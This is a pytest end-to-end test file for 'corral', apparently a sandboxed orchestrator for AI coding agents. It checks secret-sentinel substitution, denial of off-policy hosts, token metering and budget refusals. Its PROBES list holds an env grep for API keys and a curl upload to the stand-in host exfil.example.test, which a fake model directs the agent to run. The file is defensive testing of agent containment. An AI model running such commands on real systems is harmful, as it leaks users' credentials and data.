"""The real CLIs end to end through ``corral run``: fenced sandboxes, the real
proxy (HTTPS interception, secrets, metering, audit), the orchestrator's CI and
merge queue, and the fake model server standing in for the provider.

Per harness: a task that edits files, fails CI once, acts on the ``ci_failed``
follow-up, passes CI and merges; the model key inside the sandbox is a sentinel
while the model server receives the real one; a request to a host outside the
policy is denied and audited; the proxy's meter, the adapter's events and the
model server agree on the tokens; a budget stops a run mid-turn, enforced by
the proxy from corral.yaml's budgets alone.
"""

from __future__ import annotations

import copy
import json
import os
import ssl
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import trustme
import yaml
from agent_scenarios import CALC, CHECK

from corral.testing.fakellm import FakeLLM

pytestmark = pytest.mark.root

HOSTS = {"claude-code": ("api.anthropic.com", "anthropic", "ANTHROPIC_API_KEY"),
         "scripted": ("api.anthropic.com", "anthropic", "ANTHROPIC_API_KEY"),
         "codex": ("api.openai.com", "openai", "OPENAI_API_KEY"),
         "aider": ("api.openai.com", "openai", "OPENAI_API_KEY")}
MODELS = {"claude-code": "claude-sonnet-4-5", "codex": "gpt-5.5", "aider": "openai/gpt-4.1"}
REAL_KEY = "sk-live-REAL-0123456789abcdef"
PROBES = ["env | grep _API_KEY", "curl -sS -m 10 https://exfil.example.test/upload || true"]
CI = "python3 check_calc.py && test -f CHANGELOG.md"

MODEL_SCRIPT: dict[str, Any] = {"rules": [
    {"match": {"regex": "^You are working on task fix:"}, "turns": [
        {"text": "Fixing calc.add.",
         "edit": {"path": "calc.py", "old": "    return a - b\n", "new": "    return a + b\n"},
         "run": ["python3 check_calc.py", *PROBES]},
        {"text": "calc.add is fixed."}]},
    {"match": {"regex": "^CI failed on your change for task fix"}, "turns": [
        {"text": "CI wants a changelog.",
         "write": {"path": "CHANGELOG.md", "content": "- fix calc.add\n"}},
        {"text": "Added CHANGELOG.md."}]},
]}


def _git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
                          text=True).stdout


class Setup:
    """A repo with a bare origin, a policy for the model host, a fake provider."""

    def __init__(self, tmp: Path, name: str, budgets: dict[str, int] | None = None,
                 token_limit: int | None = None, model_script: dict[str, Any] | None = None,
                 task: dict[str, Any] | None = None) -> None:
        host, api, key_var = HOSTS[name]
        self.name, self.host, self.key_var = name, host, key_var
        ca = trustme.CA()
        ca_file = tmp / "upstream-ca.pem"
        ca.cert_pem.write_to_path(str(ca_file))
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ca.issue_cert(host).configure_cert(ctx)
        self.llm = FakeLLM(model_script or MODEL_SCRIPT, ssl_context=ctx,
                           api_key=REAL_KEY).start()
        llm_section: dict[str, Any] = {"hosts": {host: api}}
        if token_limit is not None:
            llm_section["token_limit"] = token_limit
        policy = {
            "network": {"default": "deny", "rules": [{"host": host, "decision": "allow"}]},
            "secrets": {key_var: {"source": "env:CORRAL_TEST_MODEL_KEY", "hosts": [host]}},
            "upstreams": {"extra_ca": str(ca_file),
                          "resolve": {f"{host}:443": f"127.0.0.1:{self.llm.port}"}},
            "llm": llm_section,
        }
        seed = tmp / "seed"
        seed.mkdir()
        (seed / "calc.py").write_text(CALC)
        (seed / "check_calc.py").write_text(CHECK)
        options: dict[str, Any] = {"model": MODELS[name]} if name in MODELS else {}
        if name == "aider":
            options["test_command"] = "; ".join([*PROBES, "python3 check_calc.py"])
            options["edit_format"] = "diff"
        config = {"ci": {"command": CI, "timeout": "2m", "max_rounds": 3},
                  "policy": policy,
                  "agents": {"harness": name, "max_parallel": 1, "max_attempts": 1,
                             "turn_timeout": "4m", "options": options},
                  "budgets": budgets or {"run_tokens": 10_000_000,
                                         "task_tokens": 5_000_000,
                                         "attempt_tokens": 5_000_000},
                  "tasks": [{"id": "fix", "title": "Fix calc.add",
                             "description": "calc.add subtracts; make it add.",
                             **(task or {})}]}
        (seed / "corral.yaml").write_text(yaml.safe_dump(config))
        _git(seed, "init", "-q", "-b", "main")
        _git(seed, "add", "-A")
        _git(seed, "commit", "-q", "-m", "calc")
        self.origin = tmp / "origin.git"
        _git(tmp, "clone", "-q", "--bare", str(seed), str(self.origin))
        self.repo = tmp / "repo"
        _git(tmp, "clone", "-q", str(self.origin), str(self.repo))

    def run(self) -> tuple[dict[str, Any], float]:
        env = {**os.environ, "CORRAL_TEST_MODEL_KEY": REAL_KEY}
        t0 = time.monotonic()
        r = subprocess.run([sys.executable, "-m", "corral.cli.main", "run", "--repo",
                            str(self.repo), "--json"], env=env, capture_output=True,
                           text=True, timeout=300)
        wall = time.monotonic() - t0
        assert r.stdout.strip(), r.stderr[-3000:]
        return json.loads(r.stdout), wall

    def close(self) -> None:
        self.llm.stop()


def _events(home: Path, run_id: str) -> list[dict[str, Any]]:
    out = []
    for f in sorted((home / "runs" / run_id / "tasks" / "fix").glob("attempt-*.jsonl")):
        out += [json.loads(line) for line in f.read_text().splitlines() if line.strip()]
    return out


def _sandboxes(run_id: str) -> set[str]:
    from corral.compute.sandbox import Sandbox

    return {s.id for s in Sandbox.list(metadata={"corral.run": run_id},
                                       include_destroyed=True)}


def _meter(run_id: str) -> tuple[int, int]:
    """What the proxy metered for the run's sandboxes."""
    from corral.compute.context import get_context
    from corral.security.metering import Meter

    meter = Meter(get_context().store)
    ins = outs = 0
    for sid in _sandboxes(run_id):
        t = meter.totals(sandbox_id=sid)
        ins, outs = ins + t.input_tokens, outs + t.output_tokens
    return ins, outs


def _audit(home: Path) -> list[Any]:
    from corral.security.audit import AuditLog

    return list(AuditLog.for_home(home).records())


FIGURES: dict[str, dict[str, Any]] = {}


@pytest.mark.parametrize("name", ["claude-code", "codex", "aider"])
def test_real_cli_through_corral_run(name, tmp_path, corral_home):
    from corral.harness.install import install

    install(name)
    s = Setup(tmp_path, name)
    try:
        status, wall = s.run()
        calls = s.llm.model_requests()
    finally:
        s.close()
    (task,) = status["tasks"]
    assert task["state"] == "merged", (task["reason"], _events(corral_home, status["run"])[-5:])
    assert status["state"] == "finished", status
    # CI failed once (no changelog), the ci_failed follow-up fixed it, then it merged
    assert task["ci_failures"] == 1 and task["ci_runs"] >= 2
    main_tree = _git(s.origin, "ls-tree", "--name-only", "main").split()
    assert "CHANGELOG.md" in main_tree
    assert "return a + b" in _git(s.origin, "show", "main:calc.py")
    # the model got the start prompt, then the CI-failed follow-up
    assert {c.rule for c in calls} == {0, 1}
    assert any("check_calc.py" in c.body.decode() for c in calls if c.rule == 1)
    # the real key reached the model server, and only the sentinel was in the sandbox
    assert {c.api_key for c in calls} == {REAL_KEY}
    events = _events(corral_home, status["run"])
    dump = json.dumps(events)
    assert REAL_KEY not in dump
    assert f"{s.key_var}=corral_" in dump, "the sandbox should see the sentinel"
    assert not any(REAL_KEY in c.body.decode() for c in calls)
    # the probe to a host outside the policy: denied, and the denial is audited
    ours = _sandboxes(status["run"])
    denied = [r for r in _audit(corral_home) if r.event == "request.denied"
              and r.sandbox in ours]
    assert denied and all(r.task == "fix" for r in denied)
    # ...and it is the only one: the CLI itself connects to nothing but the model
    assert all("exfil.example.test" in json.dumps(r.details) for r in denied), \
        [r.details for r in denied]
    # the same tokens: proxy meter == the adapter's events == the model server
    ev_in = sum(int(e.get("input_tokens", 0)) for e in events if e["kind"] == "usage")
    ev_out = sum(int(e.get("output_tokens", 0)) for e in events if e["kind"] == "usage")
    if os.environ.get("CORRAL_DEBUG_E2E"):
        for c in calls:
            msgs = (c.json or {}).get("messages") or (c.json or {}).get("input") or []
            print("CALL", c.rule, c.turn, c.usage, len(msgs), repr(str(msgs[-1])[:300]))
        for r in _audit(corral_home):
            if r.event.startswith("request"):
                print("AUDIT", r.time, r.event, r.task, json.dumps(r.details)[:200])
        print("EVENTS", [(e["t"], e["kind"], str(e.get("text") or e.get("command") or "")[:60])
                         for e in events])
        print("EVENTS", [(e.get("input_tokens"), e.get("output_tokens")) for e in events
                         if e["kind"] == "usage"])
    assert (ev_in, ev_out) == s.llm.tokens() == _meter(status["run"])
    assert task["tokens"] == ev_in + ev_out
    FIGURES[name] = {"wall_s": round(wall, 1), "events_tokens": ev_in + ev_out,
                     "proxy_tokens": sum(_meter(status["run"])),
                     "model_calls": len(calls)}
    print(f"\n{name}: {FIGURES[name]}")


#: the first answer costs 2100 tokens, most of them output, which Claude Code and
#: Codex report only when their run ends: only the proxy sees the budget spent
BUDGET_MODEL_SCRIPT = copy.deepcopy(MODEL_SCRIPT)
BUDGET_MODEL_SCRIPT["rules"][0]["turns"][0]["usage"] = {"input_tokens": 100,
                                                        "output_tokens": 2000}
#: the scripted agent calls the model itself (through the proxy), reports only a
#: part of what it spent, shrugs off the refusal and exits 0
_CALL = ("curl -sS -o /dev/null -w '%{http_code}\\n' -H 'content-type: application/json' "
         "-H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'anthropic-version: 2023-06-01' "
         "--data-binary @/tmp/call.json https://api.anthropic.com/v1/messages")
SCRIPTED_SPENDER = {"start": [
    {"run": "printf '%s' '" + json.dumps({
        "model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
            {"role": "user", "content": "You are working on task fix: calc"}]})
        + "' > /tmp/call.json"},
    {"run": _CALL}, {"usage": {"input_tokens": 100}}, {"sleep": 0.5},
    {"run": _CALL}, {"sleep": 3}, {"write": {"path": "NOTES.md", "content": "x\n"}},
    {"commit": "notes"}]}


@pytest.mark.parametrize("name", ["scripted", "claude-code", "codex", "aider"])
def test_budget_stops_the_run(name, tmp_path, corral_home):
    """The policy sets no llm.token_limit: only corral.yaml's budgets. The first
    model call spends more than the task may; the proxy, holding the sandbox to
    what is left of the budgets, refuses the next call with a message naming the
    budget; the agent stops (or is stopped: a refusal counts even when the agent
    exits 0) and the task is budget_exceeded, charged what the proxy metered."""
    if name != "scripted":
        from corral.harness.install import install

        install(name)
    s = Setup(tmp_path, name, budgets={"run_tokens": 1_000_000, "task_tokens": 500,
                                       "attempt_tokens": 1_000},
              model_script=BUDGET_MODEL_SCRIPT,
              task={"script": SCRIPTED_SPENDER} if name == "scripted" else None)
    try:
        status, _wall = s.run()
        calls = s.llm.model_requests()
    finally:
        s.close()
    (task,) = status["tasks"]
    assert task["state"] == "budget_exceeded", (name, task["reason"])
    assert "budget" in (task["reason"] or "")
    # one call answered; the next refused by the proxy, never reaching the model
    assert len(calls) == 1, [c.path for c in calls]
    ours = _sandboxes(status["run"])
    # the proxy writes its audit records through a writer process, a moment later
    # than the refusal itself (which the run saw in the store)
    deadline = time.monotonic() + 10
    while True:
        refused = [r for r in _audit(corral_home) if r.event == "llm.limit_refused"
                   and r.sandbox in ours]
        if refused or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert refused and all(r.task == "fix" for r in refused)
    assert "budget (budgets.task_tokens: 500) is spent" in refused[0].details["reason"]
    # charged what the proxy metered, even what the agent never reported
    assert task["tokens"] == sum(_meter(status["run"])) == 2100
    assert _git(s.origin, "log", "--format=%s", "main").splitlines() == ["calc"]
